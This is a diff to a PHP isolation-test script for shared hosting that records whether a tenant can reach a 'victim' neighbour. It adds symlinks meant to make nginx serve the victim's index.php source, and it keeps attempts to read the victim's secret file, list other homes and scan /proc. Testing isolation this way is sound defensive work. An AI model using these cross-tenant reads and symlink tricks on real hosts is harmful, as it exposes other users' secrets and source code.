@@ -13,6 +13,11 @@ $pid = (int)($_GET['pid'] ?? 0);
 $socket = (string)($_GET['socket'] ?? '');
 $port = (int)($_GET['port'] ?? 0);
 
+// Links for nginx to follow: one to a file of its own, one to the source of a script of the victim.
+foreach (['own.txt' => 'prices.txt', 'neighbour.txt' => "$victim/public/index.php"] as $link => $target) {
+	is_link(__DIR__ . "/$link") || symlink($target, __DIR__ . "/$link");
+}
+
 function line(string $result, string $attempt, string $said): void
 {
 	echo $result, "\t", $attempt, "\t", strtr($said, "\n\t", '  '), "\n";
@@ -28,8 +33,8 @@ function attempt(string $name, callable $neighbour, ?callable $control = null): 
 	}
 	error_clear_last();
 	$got = $neighbour();
-	$why = error_get_last()['message'] ?? 'refused';
-	$why = preg_replace('/^.*: (?=[^:]*$)/', '', $why);
+	$why = error_get_last()['message'] ?? 'nothing of others is there';
+	$why = preg_replace(['/^.*\(([A-Z][^()]+)\)$/', '/^.*: (?=[^:]*$)/'], ['$1', ''], $why);
 	line($got ? 'GOT THROUGH' : 'stopped', $name, $got ? (string)$got : $why);
 }
 
@@ -38,11 +43,10 @@ attempt('read its private file by its path',
 	fn() => file_get_contents("$own/private/secret.txt"));
 attempt('list the homes of others',
 	fn() => array_diff(scandir(dirname($own)) ?: [], ['.', '..', basename($own)]) ? 'seen' : false,
-	fn() => scandir($own));
+	fn() => scandir(__DIR__));
 attempt('read it through a link',
-	fn() => file_get_contents("$own/public/neighbour.txt"),
-	fn() => (is_link("$own/public/neighbour.txt") ||
-		 symlink("$victim/private/secret.txt", "$own/public/neighbour.txt")));
+	fn() => file_get_contents(__DIR__ . '/neighbour.txt'),
+	fn() => file_get_contents(__DIR__ . '/own.txt'));
 attempt('find its processes in /proc', function () {
 	foreach (preg_grep('/^\d+$/', scandir('/proc') ?: []) as $each) {
 		$status = (string)@file_get_contents("/proc/$each/status");
